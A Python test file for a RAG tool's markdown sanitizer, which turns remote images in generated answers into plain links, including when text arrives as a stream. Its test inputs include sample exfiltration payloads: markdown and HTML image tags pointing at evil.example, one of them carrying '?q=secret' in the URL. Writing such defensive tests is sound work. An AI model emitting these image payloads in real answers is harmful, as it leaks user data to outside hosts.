"""Remote images in answers become plain links (issue 13, item 9): whole texts and streams."""

from __future__ import annotations

import random

import pytest

from vault_rag.graph.safe_markdown import StreamNeutralizer, neutralize

CASES = [
    (
        "![chart](https://evil.example/x.png?q=secret)",
        "[chart](https://evil.example/x.png?q=secret)",
    ),
    (
        '![](http://evil.example/a.png "t")',
        "[http://evil.example/a.png](http://evil.example/a.png)",
    ),
    ("see ![a [b]](<//evil.example/p.gif>) here", "see [a [b]](//evil.example/p.gif) here"),
    ('<img src="https://evil.example/i.png" alt="pic">', "[pic](https://evil.example/i.png)"),
    (
        "<IMG SRC=https://evil.example/i.png>",
        "[https://evil.example/i.png](https://evil.example/i.png)",
    ),
    (
        '<img srcset="https://e.example/1.png 1x, https://e.example/2.png 2x">',
        "[https://e.example/1.png](https://e.example/1.png)",
    ),
    ('<iframe src="https://e.example/f"></iframe>', "[https://e.example/f](https://e.example/f)"),
    ("![logo][1]\n\n[1]: https://e.example/l.png", "[logo][1]\n\n[1]: https://e.example/l.png"),
]
KEPT = [
    "![[Rendering/diagram.png]]",
    "![local](attachments/x.png)",
    '<img src="attachments/x.png">',
    "a [link](https://example.com) stays a link",
    "`![code](https://e.example/x.png)` is",  # inside code: changed too, harmless (a link)
]


@pytest.mark.parametrize(("raw", "want"), CASES)
def test_remote_images_become_links(raw, want):
    assert neutralize(raw) == want


@pytest.mark.parametrize("text", KEPT[:4])
def test_vault_images_and_links_are_left_alone(text):
    assert neutralize(text) == text


def test_a_stream_cut_anywhere_gives_the_same_text():
    text = "Intro. " + " and ".join(raw for raw, _ in CASES) + " ![[local.png]] end!"
    want = neutralize(text)
    assert "evil.example/x.png?q=secret)" in want and "![chart]" not in want
    rng = random.Random(3)
    for _ in range(200):
        cuts = sorted(rng.sample(range(1, len(text)), rng.randint(1, 30)))
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        stream = StreamNeutralizer()
        shown = "".join(stream.feed(p) for p in pieces) + stream.flush()
        assert shown == want
        assert "![chart](https" not in shown and "<img" not in shown.lower()
